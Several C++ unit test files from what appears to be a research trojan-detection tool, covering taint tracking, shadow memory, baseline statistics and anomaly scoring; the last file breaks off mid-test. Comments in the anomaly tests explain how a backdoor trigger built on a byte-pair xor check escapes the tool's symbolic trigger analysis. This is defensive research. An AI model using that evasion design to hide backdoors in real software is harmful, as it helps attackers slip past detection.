    Gasm a("/t/h9");
    a.dataString("inpath", "/data/in");
    a.dataSpace("buf", 4);
    a.label("main");
    a.entry("main");
    a.openSym("inpath", GO_RDONLY);
    a.mov(Reg::Ebp, Reg::Eax);
    a.readFd(Reg::Ebp, "buf", 4);
    a.exit(0);
    kernel.vfs().addFile("/data/in", "zzzz");
    start(a);
    kernel.run();
    bool saw_read = false;
    for (const auto &ev : sink.io)
        saw_read = saw_read ||
                   (!ev.isWrite && ev.source.name == "/data/in");
    EXPECT_TRUE(saw_read);
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
