/**
 * @file
 * Unit tests for the workload layer: the shared guest programs
 * (ls, csh, noop), the Gasm helpers, and the scenario registry
 * integrity (unique ids, well-formed expectations).
 */

#include <gtest/gtest.h>

#include <set>

#include "os/Kernel.hh"
#include "os/Libc.hh"
#include "workloads/AnomalyCorpus.hh"
#include "workloads/Characterize.hh"
#include "workloads/Exploits.hh"
#include "workloads/GuestLib.hh"
#include "workloads/Macro.hh"
#include "workloads/Micro.hh"
#include "workloads/Trusted.hh"

using namespace hth;
using namespace hth::os;
using namespace hth::workloads;

namespace
{

/** Spawn a registered binary and run the kernel to completion. */
Process &
runBinary(Kernel &kernel, std::shared_ptr<const vm::Image> image,
          std::vector<std::string> argv = {},
          const std::string &stdin_data = "")
{
    kernel.vfs().addBinary(image->path, image);
    if (argv.empty())
        argv = {image->path};
    Process &p = kernel.spawn(image->path, argv);
    p.stdinData = stdin_data;
    EXPECT_EQ(kernel.run(), RunStatus::Done);
    return p;
}

} // namespace

TEST(SharedGuests, NoopExitsZero)
{
    Kernel kernel;
    installLibc(kernel);
    Process &p = runBinary(kernel, makeNoopBinary("/bin/true"));
    EXPECT_EQ(p.exitCode, 0);
    EXPECT_TRUE(p.stdoutData.empty());
}

TEST(SharedGuests, LsListsDotFile)
{
    Kernel kernel;
    installLibc(kernel);
    kernel.vfs().addFile(".", "one\ntwo\n");
    Process &p = runBinary(kernel, makeLsBinary());
    EXPECT_EQ(p.stdoutData, "one\ntwo\n");
}

TEST(SharedGuests, CshEchoAndLs)
{
    Kernel kernel;
    installLibc(kernel);
    Process &p = runBinary(kernel, makeCshBinary(), {},
                           "echo hi\n");
    EXPECT_EQ(p.stdoutData, "hi\n");

    Kernel kernel2;
    installLibc(kernel2);
    Process &p2 = runBinary(kernel2, makeCshBinary(), {}, "ls\n");
    EXPECT_NE(p2.stdoutData.find("pmad"), std::string::npos);
}

TEST(SharedGuests, CshExitsOnEof)
{
    Kernel kernel;
    installLibc(kernel);
    Process &p = runBinary(kernel, makeCshBinary(), {}, "");
    EXPECT_EQ(p.exitCode, 0);
}

//
// Gasm helper semantics
//

TEST(Gasm, InlineStrcpyPreservesPointers)
{
    Kernel kernel;
    kernel.setTaintTracking(true);
    installLibc(kernel);

    Gasm a("/t/strcpytest");
    a.dataString("src", "copied");
    a.dataSpace("dst", 16);
    a.label("main");
    a.entry("main");
    a.leaSym(Reg::Eax, "src");
    a.leaSym(Reg::Edx, "dst");
    a.inlineStrcpy(Reg::Edx, Reg::Eax);
    // dst pointer must survive the copy loop.
    a.mov(Reg::Ecx, Reg::Edx);
    a.movi(Reg::Ebx, 1);
    a.movi(Reg::Edx, 6);
    a.sysc(NR_write);
    a.exit(0);
    Process &p = runBinary(kernel, a.build());
    EXPECT_EQ(p.stdoutData, "copied");
}

TEST(Gasm, LoadArgvFetchesPointers)
{
    Kernel kernel;
    installLibc(kernel);
    Gasm a("/t/argvtest");
    a.label("main");
    a.entry("main");
    a.loadArgv(2);
    a.mov(Reg::Ecx, Reg::Eax);
    a.movi(Reg::Ebx, 1);
    a.movi(Reg::Edx, 5);
    a.sysc(NR_write);
    a.exit(0);
    Process &p =
        runBinary(kernel, a.build(), {"/t/argvtest", "one", "two22"});
    EXPECT_EQ(p.stdoutData, "two22");
}

//
// Scenario registry integrity
//

TEST(ScenarioRegistry, IdsAreUniqueAndComplete)
{
    std::vector<Scenario> all;
    for (auto &s : executionFlowScenarios())
        all.push_back(std::move(s));
    for (auto &s : resourceAbuseScenarios())
        all.push_back(std::move(s));
    for (auto &s : infoFlowScenarios())
        all.push_back(std::move(s));
    for (auto &s : trustedProgramScenarios())
        all.push_back(std::move(s));
    for (auto &s : exploitScenarios())
        all.push_back(std::move(s));
    for (auto &s : anomalyScenarios())
        all.push_back(std::move(s));
    for (auto &s : macroScenarios())
        all.push_back(std::move(s));

    std::set<std::string> ids;
    for (const Scenario &s : all) {
        EXPECT_FALSE(s.id.empty());
        EXPECT_FALSE(s.description.empty()) << s.id;
        EXPECT_FALSE(s.path.empty()) << s.id;
        EXPECT_TRUE(s.setup) << s.id;
        EXPECT_TRUE(ids.insert(s.id).second)
            << "duplicate scenario id " << s.id;
    }
    // Paper coverage: 4 execve + 2 forkers + 29 info-flow probes +
    // 16 trusted (13 + 3 noisy baseline workloads) + 9 exploits
    // (7 from Table 8 + the dormant/triggered "updated" backdoor
    // pair) + 3 anomaly-corpus syncd variants + 6 macro.
    EXPECT_EQ(all.size(), 4u + 2u + 29u + 16u + 9u + 3u + 6u);
}

TEST(ScenarioRegistry, CharacterizationCoversAllNine)
{
    auto models = characterizationModels();
    ASSERT_EQ(models.size(), 9u);
    std::set<std::string> ids;
    for (const auto &ce : models) {
        EXPECT_TRUE(ce.scenario.expectMalicious) << ce.scenario.id;
        EXPECT_TRUE(ids.insert(ce.scenario.id).second);
        EXPECT_TRUE(ce.expected.hardcodedResources) << ce.scenario.id;
    }
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
