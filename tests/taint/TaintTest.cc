/**
 * @file
 * Unit and property tests for the taint engine: tag-set interning,
 * memoised unions (algebraic properties), shadow memory, resource
 * table.
 */

#include <gtest/gtest.h>

#include "taint/DataSource.hh"
#include "taint/Shadow.hh"
#include "taint/TagSet.hh"

using namespace hth::taint;

TEST(TagStore, EmptyIsZero)
{
    TagStore store;
    EXPECT_EQ(TagStore::EMPTY, 0u);
    EXPECT_TRUE(store.empty(TagStore::EMPTY));
    EXPECT_TRUE(store.tags(TagStore::EMPTY).empty());
}

TEST(TagStore, SingletonInterning)
{
    TagStore store;
    Tag tag{SourceType::File, 3};
    TagSetId a = store.single(tag);
    TagSetId b = store.single(tag);
    EXPECT_EQ(a, b);
    EXPECT_NE(a, TagStore::EMPTY);
    ASSERT_EQ(store.tags(a).size(), 1u);
    EXPECT_EQ(store.tags(a)[0], tag);
}

TEST(TagStore, InternCanonicalises)
{
    TagStore store;
    Tag t1{SourceType::File, 1};
    Tag t2{SourceType::Socket, 2};
    TagSetId a = store.intern({t1, t2});
    TagSetId b = store.intern({t2, t1});          // order
    TagSetId c = store.intern({t1, t2, t1, t2});  // duplicates
    EXPECT_EQ(a, b);
    EXPECT_EQ(a, c);
    EXPECT_EQ(store.tags(a).size(), 2u);
}

TEST(TagStore, UniteBasics)
{
    TagStore store;
    TagSetId a = store.single({SourceType::File, 1});
    TagSetId b = store.single({SourceType::Socket, 2});
    TagSetId ab = store.unite(a, b);
    EXPECT_EQ(store.tags(ab).size(), 2u);
    EXPECT_TRUE(store.contains(ab, {SourceType::File, 1}));
    EXPECT_TRUE(store.contains(ab, {SourceType::Socket, 2}));
    EXPECT_FALSE(store.contains(ab, {SourceType::File, 2}));
}

TEST(TagStore, UniteWithEmptyIsIdentity)
{
    TagStore store;
    TagSetId a = store.single({SourceType::Binary, 7});
    EXPECT_EQ(store.unite(a, TagStore::EMPTY), a);
    EXPECT_EQ(store.unite(TagStore::EMPTY, a), a);
    EXPECT_EQ(store.unite(TagStore::EMPTY, TagStore::EMPTY),
              TagStore::EMPTY);
}

TEST(TagStore, UnionCacheHits)
{
    TagStore store;
    TagSetId a = store.single({SourceType::File, 1});
    TagSetId b = store.single({SourceType::Socket, 2});
    store.unite(a, b);
    uint64_t hits_before = store.stats().unionCacheHits;
    store.unite(a, b);
    store.unite(b, a);  // symmetric pair shares the cache slot
    EXPECT_EQ(store.stats().unionCacheHits, hits_before + 2);
}

TEST(TagStore, ContainsType)
{
    TagStore store;
    TagSetId a = store.intern({{SourceType::File, 1},
                               {SourceType::Hardware, NO_RESOURCE}});
    EXPECT_TRUE(store.containsType(a, SourceType::File));
    EXPECT_TRUE(store.containsType(a, SourceType::Hardware));
    EXPECT_FALSE(store.containsType(a, SourceType::Socket));
    EXPECT_FALSE(store.containsType(TagStore::EMPTY,
                                    SourceType::File));
}

//
// Algebraic properties of unite, swept over generated sets.
//

class UnionPropertyTest : public ::testing::TestWithParam<int>
{
  protected:
    void
    SetUp() override
    {
        // A family of overlapping sets built from a seed.
        int seed = GetParam();
        for (int i = 0; i < 5; ++i) {
            std::vector<Tag> tags;
            for (int j = 0; j < 4; ++j) {
                int v = (seed * 31 + i * 7 + j * 3) % 6;
                tags.push_back({(SourceType)(v % 5),
                                (ResourceId)(v * 11)});
            }
            sets.push_back(store.intern(tags));
        }
    }

    TagStore store;
    std::vector<TagSetId> sets;
};

TEST_P(UnionPropertyTest, Idempotent)
{
    for (TagSetId s : sets)
        EXPECT_EQ(store.unite(s, s), s);
}

TEST_P(UnionPropertyTest, Commutative)
{
    for (TagSetId a : sets)
        for (TagSetId b : sets)
            EXPECT_EQ(store.unite(a, b), store.unite(b, a));
}

TEST_P(UnionPropertyTest, Associative)
{
    for (TagSetId a : sets)
        for (TagSetId b : sets)
            for (TagSetId c : sets)
                EXPECT_EQ(store.unite(store.unite(a, b), c),
                          store.unite(a, store.unite(b, c)));
}

TEST_P(UnionPropertyTest, Monotone)
{
    // Every member of a and of b is in a∪b and nothing else is.
    for (TagSetId a : sets) {
        for (TagSetId b : sets) {
            TagSetId u = store.unite(a, b);
            for (const Tag &t : store.tags(a))
                EXPECT_TRUE(store.contains(u, t));
            for (const Tag &t : store.tags(b))
                EXPECT_TRUE(store.contains(u, t));
            for (const Tag &t : store.tags(u))
                EXPECT_TRUE(store.contains(a, t) ||
                            store.contains(b, t));
        }
    }
}

INSTANTIATE_TEST_SUITE_P(Seeds, UnionPropertyTest,
                         ::testing::Range(0, 8));

//
// Shadow memory
//

TEST(ShadowMemory, DefaultsToEmpty)
{
    ShadowMemory shadow;
    EXPECT_EQ(shadow.get(0), TagStore::EMPTY);
    EXPECT_EQ(shadow.get(0xdeadbeef), TagStore::EMPTY);
    EXPECT_EQ(shadow.pageCount(), 0u);
}

TEST(ShadowMemory, SetAndGet)
{
    TagStore store;
    ShadowMemory shadow;
    TagSetId tag = store.single({SourceType::File, 1});
    shadow.set(0x1000, tag);
    EXPECT_EQ(shadow.get(0x1000), tag);
    EXPECT_EQ(shadow.get(0x1001), TagStore::EMPTY);
}

TEST(ShadowMemory, SettingEmptyAllocatesNoPage)
{
    ShadowMemory shadow;
    shadow.set(0x5000, TagStore::EMPTY);
    EXPECT_EQ(shadow.pageCount(), 0u);
}

TEST(ShadowMemory, SetRangeAcrossPageBoundary)
{
    TagStore store;
    ShadowMemory shadow;
    TagSetId tag = store.single({SourceType::Socket, 2});
    uint32_t base = ShadowMemory::PAGE_SIZE - 8;
    shadow.setRange(base, 16, tag);
    for (uint32_t i = 0; i < 16; ++i)
        EXPECT_EQ(shadow.get(base + i), tag);
    EXPECT_EQ(shadow.get(base - 1), TagStore::EMPTY);
    EXPECT_EQ(shadow.get(base + 16), TagStore::EMPTY);
    EXPECT_EQ(shadow.pageCount(), 2u);
}

TEST(ShadowMemory, SetRangeEmptyAllocatesNoPage)
{
    TagStore store;
    ShadowMemory shadow;
    // Clearing a range that touches only unallocated pages must not
    // materialise them (the whole-page-EMPTY fast path).
    shadow.setRange(ShadowMemory::PAGE_SIZE - 8, 16, TagStore::EMPTY);
    EXPECT_EQ(shadow.pageCount(), 0u);

    // But it must still clear tags on pages that do exist.
    TagSetId tag = store.single({SourceType::File, 3});
    shadow.set(0x40, tag);
    shadow.setRange(0, ShadowMemory::PAGE_SIZE, TagStore::EMPTY);
    EXPECT_EQ(shadow.get(0x40), TagStore::EMPTY);
}

TEST(ShadowMemory, RangeUnionAcrossPageBoundary)
{
    TagStore store;
    ShadowMemory shadow;
    TagSetId a = store.single({SourceType::File, 1});
    TagSetId b = store.single({SourceType::Socket, 2});
    // One tag on each side of a page boundary; the union over a
    // window spanning it must see both.
    uint32_t boundary = ShadowMemory::PAGE_SIZE;
    shadow.set(boundary - 1, a);
    shadow.set(boundary, b);
    TagSetId u = shadow.rangeUnion(store, boundary - 4, 8);
    EXPECT_EQ(u, store.unite(a, b));
}

TEST(ShadowMemory, RangeUnionSkipsUnallocatedPages)
{
    TagStore store;
    ShadowMemory shadow;
    TagSetId a = store.single({SourceType::File, 1});
    // Tags only on the first and third page; the (never-touched)
    // middle page contributes nothing and stays unallocated.
    shadow.set(0x10, a);
    shadow.set(2 * ShadowMemory::PAGE_SIZE + 0x10, a);
    TagSetId u =
        shadow.rangeUnion(store, 0, 3 * ShadowMemory::PAGE_SIZE);
    EXPECT_EQ(u, a);
    EXPECT_EQ(shadow.pageCount(), 2u);
}

TEST(ShadowMemory, RangeUnion)
{
    TagStore store;
    ShadowMemory shadow;
    TagSetId a = store.single({SourceType::File, 1});
    TagSetId b = store.single({SourceType::Socket, 2});
    shadow.set(0x100, a);
    shadow.set(0x102, b);
    TagSetId u = shadow.rangeUnion(store, 0x100, 4);
    EXPECT_EQ(store.tags(u).size(), 2u);
    EXPECT_EQ(shadow.rangeUnion(store, 0x200, 4), TagStore::EMPTY);
}

TEST(ShadowMemory, CloneIsIndependent)
{
    TagStore store;
    ShadowMemory shadow;
    TagSetId a = store.single({SourceType::File, 1});
    TagSetId b = store.single({SourceType::Socket, 2});
    shadow.set(0x100, a);
    ShadowMemory copy = shadow.clone();
    EXPECT_EQ(copy.get(0x100), a);
    copy.set(0x100, b);
    EXPECT_EQ(shadow.get(0x100), a);
    EXPECT_EQ(copy.get(0x100), b);
}

//
// Resource table
//

TEST(ResourceTable, ReservesUnknownAtZero)
{
    ResourceTable table;
    EXPECT_EQ(table.size(), 1u);
    EXPECT_EQ(table.get(0).type, SourceType::Unknown);
}

TEST(ResourceTable, AddAndGet)
{
    ResourceTable table;
    ResourceId id = table.add(SourceType::File, "/etc/passwd", 5);
    const Resource &res = table.get(id);
    EXPECT_EQ(res.type, SourceType::File);
    EXPECT_EQ(res.name, "/etc/passwd");
    EXPECT_EQ(res.nameOrigin, 5u);
    EXPECT_EQ(res.server, NO_RESOURCE);
}

TEST(ResourceTable, ServerLink)
{
    ResourceTable table;
    ResourceId listener =
        table.add(SourceType::Socket, "LocalHost:80", 0);
    ResourceId conn =
        table.add(SourceType::Socket, "peer:1234", 0, listener);
    EXPECT_EQ(table.get(conn).server, listener);
}

TEST(ResourceTable, BadIdPanics)
{
    ResourceTable table;
    EXPECT_THROW(table.get(999), hth::PanicError);
}

TEST(SourceTypeName, AllNamed)
{
    EXPECT_STREQ(sourceTypeName(SourceType::UserInput), "USER_INPUT");
    EXPECT_STREQ(sourceTypeName(SourceType::File), "FILE");
    EXPECT_STREQ(sourceTypeName(SourceType::Socket), "SOCKET");
    EXPECT_STREQ(sourceTypeName(SourceType::Binary), "BINARY");
    EXPECT_STREQ(sourceTypeName(SourceType::Hardware), "HARDWARE");
    EXPECT_STREQ(sourceTypeName(SourceType::Unknown), "UNKNOWN");
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
