/**
 * @file
 * Unit tests for the baseline model: MetricStats accumulation,
 * BaselineBuilder zero-backfill semantics, and the byte-stable
 * JSON-lines persistence format with its rejection diagnostics.
 */

#include <gtest/gtest.h>

#include "anomaly/Baseline.hh"
#include "support/Logging.hh"

using namespace hth;
using namespace hth::anomaly;

namespace
{

/** A telemetry snapshot with the given counters and gauges. */
obs::RunTelemetry
snapshot(std::map<std::string, uint64_t> counters,
         std::map<std::string, uint64_t> gauges = {})
{
    obs::RunTelemetry t;
    t.profiled = true;
    t.metrics.counters = std::move(counters);
    for (const auto &[name, value] : gauges)
        t.metrics.gauges[name] = {value, value};
    return t;
}

/** Fatal diagnostics must name the problem, not just throw. */
void
expectParseError(const std::string &text, const std::string &needle)
{
    try {
        parseBaseline(text);
        FAIL() << "expected rejection containing '" << needle << "'";
    } catch (const FatalError &e) {
        EXPECT_NE(std::string(e.what()).find(needle),
                  std::string::npos)
            << "diagnostic was: " << e.what();
    }
}

} // namespace

TEST(MetricStats, AccumulatesMoments)
{
    MetricStats s;
    for (double x : {2.0, 4.0, 6.0})
        s.add(x);
    EXPECT_EQ(s.count, 3u);
    EXPECT_DOUBLE_EQ(s.mean(), 4.0);
    EXPECT_DOUBLE_EQ(s.variance(), 8.0 / 3.0);   // population
    EXPECT_DOUBLE_EQ(s.minValue, 2.0);
    EXPECT_DOUBLE_EQ(s.maxValue, 6.0);
}

TEST(MetricStats, ZeroVarianceWhenConstant)
{
    MetricStats s;
    for (int i = 0; i < 5; ++i)
        s.add(42.0);
    EXPECT_DOUBLE_EQ(s.variance(), 0.0);
    EXPECT_DOUBLE_EQ(s.stddev(), 0.0);
}

TEST(BaselineBuilder, FoldsCountersAndGauges)
{
    BaselineBuilder b("demo");
    b.addSample(snapshot({{"os.ticks", 100}}, {{"vm.pages", 7}}));
    b.addSample(snapshot({{"os.ticks", 110}}, {{"vm.pages", 7}}));
    BaselineProfile p = b.build();
    EXPECT_EQ(p.name, "demo");
    EXPECT_EQ(p.samples, 2u);
    ASSERT_EQ(p.metrics.size(), 2u);
    EXPECT_DOUBLE_EQ(p.metrics.at("os.ticks").mean(), 105.0);
    EXPECT_DOUBLE_EQ(p.metrics.at("vm.pages").mean(), 7.0);
}

TEST(BaselineBuilder, AbsentMetricIsObservedZero)
{
    // "rule.x" fires only under seed 3 of 3. The two runs where it
    // stayed silent are observations of zero, not gaps: the mean
    // must dilute and every sample's count must match.
    BaselineBuilder b("demo");
    b.addSample(snapshot({{"os.ticks", 100}}));
    b.addSample(snapshot({{"os.ticks", 100}}));
    b.addSample(snapshot({{"os.ticks", 100}, {"rule.x", 6}}));
    BaselineProfile p = b.build();
    const MetricStats &late = p.metrics.at("rule.x");
    EXPECT_EQ(late.count, 3u);   // two zeros backfilled
    EXPECT_DOUBLE_EQ(late.mean(), 2.0);
    EXPECT_DOUBLE_EQ(late.minValue, 0.0);
    EXPECT_DOUBLE_EQ(late.maxValue, 6.0);

    // The symmetric case: seen early, absent later.
    BaselineBuilder b2("demo");
    b2.addSample(snapshot({{"rule.y", 4}}));
    b2.addSample(snapshot({{"os.ticks", 1}}));
    b2.addSample(snapshot({{"os.ticks", 1}}));
    const MetricStats &early = b2.build().metrics.at("rule.y");
    EXPECT_EQ(early.count, 3u);
    EXPECT_DOUBLE_EQ(early.mean(), 4.0 / 3.0);
}

TEST(BaselineBuilder, NoSamplesIsFatal)
{
    BaselineBuilder b("empty");
    EXPECT_THROW(b.build(), FatalError);
}

TEST(ProfileBaseline, RunsOncePerSeed)
{
    std::vector<uint32_t> seen;
    BaselineProfile p = profileBaseline(
        "seeded", {1, 2, 3}, [&](uint32_t seed) {
            seen.push_back(seed);
            return snapshot({{"work", 10 * seed}});
        });
    EXPECT_EQ(seen, (std::vector<uint32_t>{1, 2, 3}));
    EXPECT_EQ(p.samples, 3u);
    EXPECT_DOUBLE_EQ(p.metrics.at("work").mean(), 20.0);
}

//
// Persistence: the byte-stability contract and the reject paths.
//

namespace
{

BaselineProfile
sampleProfile()
{
    BaselineBuilder b("syncd (clean)");
    b.addSample(snapshot({{"os.ticks", 12345}, {"os.syscalls", 67}},
                         {{"taint.pages", 3}}));
    b.addSample(snapshot({{"os.ticks", 12401}, {"os.syscalls", 67}},
                         {{"taint.pages", 3}}));
    // Odd sums exercise the %.17g path (non-integral mean/sumsq).
    b.addSample(snapshot({{"os.ticks", 12350}, {"os.syscalls", 68}},
                         {{"taint.pages", 4}}));
    return b.build();
}

} // namespace

TEST(BaselinePersistence, SerializeParseIsIdentity)
{
    BaselineProfile p = sampleProfile();
    std::string text = serializeBaseline(p);
    BaselineProfile back = parseBaseline(text);
    EXPECT_EQ(back, p);
    // Byte stability: serialize∘parse is the identity on the text.
    EXPECT_EQ(serializeBaseline(back), text);
}

TEST(BaselinePersistence, DoublesRoundTripExactly)
{
    // A sum that is not representable in few digits must survive the
    // %.17g round trip bit-for-bit.
    BaselineBuilder b("precise");
    b.addSample(snapshot({{"m", 1}}));
    b.addSample(snapshot({{"m", 3}}));
    b.addSample(snapshot({{"m", 4}}));   // mean 8/3
    BaselineProfile p = b.build();
    BaselineProfile back = parseBaseline(serializeBaseline(p));
    EXPECT_EQ(back.metrics.at("m").sum, p.metrics.at("m").sum);
    EXPECT_EQ(back.metrics.at("m").sumSq, p.metrics.at("m").sumSq);
    EXPECT_DOUBLE_EQ(back.metrics.at("m").variance(),
                     p.metrics.at("m").variance());
}

TEST(BaselinePersistence, SaveLoadRoundTrip)
{
    BaselineProfile p = sampleProfile();
    std::string path =
        ::testing::TempDir() + "hth_baseline_roundtrip.baseline";
    saveBaseline(path, p);
    EXPECT_EQ(loadBaseline(path), p);
    std::remove(path.c_str());
}

TEST(BaselinePersistence, LoadMissingFileIsFatal)
{
    EXPECT_THROW(loadBaseline("/nonexistent/dir/x.baseline"),
                 FatalError);
}

TEST(BaselinePersistence, RejectsUnsupportedVersion)
{
    expectParseError(
        "{\"type\":\"baseline\",\"version\":99,\"name\":\"x\","
        "\"samples\":2}\n"
        "{\"type\":\"metric\",\"name\":\"m\",\"count\":2,"
        "\"sum\":4,\"sumsq\":8,\"min\":2,\"max\":2}\n",
        "format version 99 unsupported");
}

TEST(BaselinePersistence, RejectsMissingHeader)
{
    expectParseError("", "no header");
    expectParseError(
        "{\"type\":\"metric\",\"name\":\"m\",\"count\":1,"
        "\"sum\":1,\"sumsq\":1,\"min\":1,\"max\":1}\n",
        "metric record before header");
}

TEST(BaselinePersistence, RejectsDuplicates)
{
    std::string header =
        "{\"type\":\"baseline\",\"version\":1,\"name\":\"x\","
        "\"samples\":2}\n";
    std::string metric =
        "{\"type\":\"metric\",\"name\":\"m\",\"count\":2,"
        "\"sum\":4,\"sumsq\":8,\"min\":2,\"max\":2}\n";
    expectParseError(header + header + metric, "duplicate header");
    expectParseError(header + metric + metric, "duplicate metric 'm'");
}

TEST(BaselinePersistence, RejectsImplausibleCount)
{
    // count must be 1..samples: every sample folds every metric in
    // (the builder backfills zeros), so anything else is corruption.
    expectParseError(
        "{\"type\":\"baseline\",\"version\":1,\"name\":\"x\","
        "\"samples\":2}\n"
        "{\"type\":\"metric\",\"name\":\"m\",\"count\":5,"
        "\"sum\":4,\"sumsq\":8,\"min\":2,\"max\":2}\n",
        "implausible count 5");
}

TEST(BaselinePersistence, RejectsUnknownTypeAndGarbage)
{
    expectParseError("{\"type\":\"surprise\"}\n",
                     "unknown record type 'surprise'");
    EXPECT_THROW(parseBaseline("not json at all\n"), FatalError);
    EXPECT_THROW(parseBaseline("[1,2,3]\n"), FatalError);
}

TEST(BaselinePersistence, RejectsEmptyMetricSet)
{
    expectParseError(
        "{\"type\":\"baseline\",\"version\":1,\"name\":\"x\","
        "\"samples\":2}\n",
        "no metric records");
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
