/**
 * @file
 * Corpus-wide evaluation of the statistical anomaly subsystem: clean
 * baselines separate trojaned workloads from trusted ones.
 *
 * The star witness is the backdoored syncd daemon, whose trigger
 * relates two input bytes (cmd[i] xor cmd[i+1] against a key table).
 * That guard shape degrades to Unknown in the static trigger
 * synthesizer — no TRIGGER_HYPOTHESIS fact — and under benign input
 * the payload never runs, so no dynamic rule fires either. The only
 * detector left standing is the multi-seed baseline scorer, which
 * sees the trigger-scan loop's extra per-byte instruction work.
 */

#include <gtest/gtest.h>

#include <memory>

#include "workloads/AnomalyCorpus.hh"
#include "workloads/Exploits.hh"
#include "workloads/Trusted.hh"

using namespace hth;
using namespace hth::workloads;

namespace
{

Scenario
findScenario(const std::vector<Scenario> &all, const std::string &id)
{
    for (const Scenario &s : all)
        if (s.id == id)
            return s;
    ADD_FAILURE() << "scenario not found: " << id;
    return {};
}

/** The clean syncd baseline, recorded once (5 seeded runs). */
const std::shared_ptr<const anomaly::BaselineProfile> &
syncdBaseline()
{
    static auto profile =
        std::make_shared<const anomaly::BaselineProfile>(
            recordScenarioBaseline(
                findScenario(anomalyScenarios(), "syncd (clean)"),
                5));
    return profile;
}

/** Run @p scenario (reseeded) scored against the syncd baseline. */
ScenarioResult
runScored(const Scenario &scenario, uint32_t seed,
          bool allow_name_mismatch = false)
{
    HthOptions options;
    options.baseline = syncdBaseline();
    if (allow_name_mismatch)
        options.scorer.allowNameMismatch = true;
    else
        options.baselineRunName = scenario.id;
    return runScenarioSeeded(scenario, seed, options);
}

} // namespace

TEST(AnomalyEval, BaselineCoversRealMetrics)
{
    const anomaly::BaselineProfile &base = *syncdBaseline();
    EXPECT_EQ(base.name, "syncd (clean)");
    EXPECT_EQ(base.samples, 5u);
    // The profile must span the interesting layers, not just a
    // couple of top-level counters.
    EXPECT_GT(base.metrics.size(), 20u);
    EXPECT_TRUE(base.metrics.count("os.ticks"));
    EXPECT_TRUE(base.metrics.count("os.syscalls"));
    // Wall times are nondeterministic and never profiled.
    for (const auto &[name, stats] : base.metrics)
        EXPECT_EQ(name.find("phase."), std::string::npos) << name;
}

TEST(AnomalyEval, CleanHeldOutSeedsScoreLow)
{
    Scenario clean =
        findScenario(anomalyScenarios(), "syncd (clean)");
    for (uint32_t seed : {6u, 7u, 8u}) {
        ScenarioResult r = runScored(clean, seed);
        ASSERT_TRUE(r.report.anomalyScored);
        EXPECT_FALSE(r.report.anomaly.anomalous)
            << "seed " << seed << " aggregate "
            << r.report.anomaly.aggregate;
        EXPECT_LT(r.report.anomaly.aggregate, 1.0);
        EXPECT_EQ(r.report.anomaly.novelMetrics, 0u) << "seed "
                                                     << seed;
        EXPECT_FALSE(r.flagged);
    }
}

TEST(AnomalyEval, DormantBackdoorIsInvisibleToSymbolicAnalysis)
{
    // Without a baseline the trojaned daemon under benign input is
    // indistinguishable from clean: the paired-byte trigger guard
    // synthesizes no TRIGGER_HYPOTHESIS and no dynamic rule fires.
    Scenario backdoored =
        findScenario(anomalyScenarios(), "syncd (backdoored)");
    ScenarioResult r = runScenarioSeeded(backdoored, 6);
    EXPECT_FALSE(r.flagged);
    for (const auto &f : r.report.staticFindings)
        EXPECT_NE(f.kind, "TRIGGER_HYPOTHESIS") << f.detail;
}

TEST(AnomalyEval, DormantBackdoorFlaggedByStatisticsAlone)
{
    Scenario backdoored =
        findScenario(anomalyScenarios(), "syncd (backdoored)");
    for (uint32_t seed : {6u, 7u, 8u}) {
        ScenarioResult r = runScored(backdoored, seed, true);
        ASSERT_TRUE(r.report.anomalyScored);
        EXPECT_TRUE(r.report.anomaly.anomalous)
            << "seed " << seed << " aggregate "
            << r.report.anomaly.aggregate;
        // Statistical evidence alone: Medium via the anomaly rule,
        // no symbolic co-signer available to escalate.
        EXPECT_EQ(r.report.countByRule("behavioral_anomaly_alert"),
                  1u);
        EXPECT_EQ(r.report.countByRule("anomaly_confirms_static"),
                  0u);
        EXPECT_EQ(r.report.maxSeverity(),
                  secpert::Severity::Medium);
    }
}

TEST(AnomalyEval, SeparationGapIsWide)
{
    // The decision threshold (1.0) must sit in a real gap, not
    // between two overlapping clouds.
    Scenario clean =
        findScenario(anomalyScenarios(), "syncd (clean)");
    Scenario backdoored =
        findScenario(anomalyScenarios(), "syncd (backdoored)");
    double worst_clean = 0, best_trojan = 1e9;
    for (uint32_t seed : {6u, 7u, 8u, 9u}) {
        worst_clean = std::max(
            worst_clean,
            runScored(clean, seed).report.anomaly.aggregate);
        best_trojan = std::min(
            best_trojan,
            runScored(backdoored, seed, true)
                .report.anomaly.aggregate);
    }
    EXPECT_LT(worst_clean, 1.0);
    EXPECT_GT(best_trojan, 1.0);
    EXPECT_GT(best_trojan, 2.0 * worst_clean)
        << "clean " << worst_clean << " trojan " << best_trojan;
}

TEST(AnomalyEval, WokenBackdoorKeepsSymbolicVerdictAndScoresHigh)
{
    // Fed a trigger pair the payload goes live: the classic dynamic
    // rules still own that verdict, and the scorer agrees.
    Scenario woken =
        findScenario(anomalyScenarios(), "syncd (woken)");
    HthOptions options;
    options.baseline = syncdBaseline();
    options.scorer.allowNameMismatch = true;
    ScenarioResult r = runScenario(woken, options);
    EXPECT_TRUE(r.flagged);
    EXPECT_TRUE(r.report.anomalyScored);
    EXPECT_TRUE(r.report.anomaly.anomalous);
}

TEST(AnomalyEval, AnomalyConfirmingTriggerHypothesisEscalatesHigh)
{
    // The "updated" daemon carries a classic single-byte-guard
    // backdoor: the static pass synthesizes a TRIGGER_HYPOTHESIS
    // (level >= 2) but dormant runs fire no dynamic rule, so alone
    // it stays a fact, not a warning. Statistical deviation from a
    // clean baseline is the missing corroboration — the hybrid rule
    // joins both facts and escalates to High, pre-empting the
    // Medium statistics-only alert.
    Scenario dormant =
        findScenario(exploitScenarios(), "updated (dormant)");

    ScenarioResult plain = runScenario(dormant);
    bool sawTrigger = false;
    for (const auto &f : plain.report.staticFindings)
        sawTrigger |= f.kind == "TRIGGER_HYPOTHESIS" && f.level >= 2;
    ASSERT_TRUE(sawTrigger);
    EXPECT_FALSE(plain.report.flagged(secpert::Severity::High));

    ScenarioResult r = runScored(dormant, 1, true);
    ASSERT_TRUE(r.report.anomalyScored);
    EXPECT_TRUE(r.report.anomaly.anomalous);
    EXPECT_EQ(r.report.countByRule("anomaly_confirms_static"), 1u);
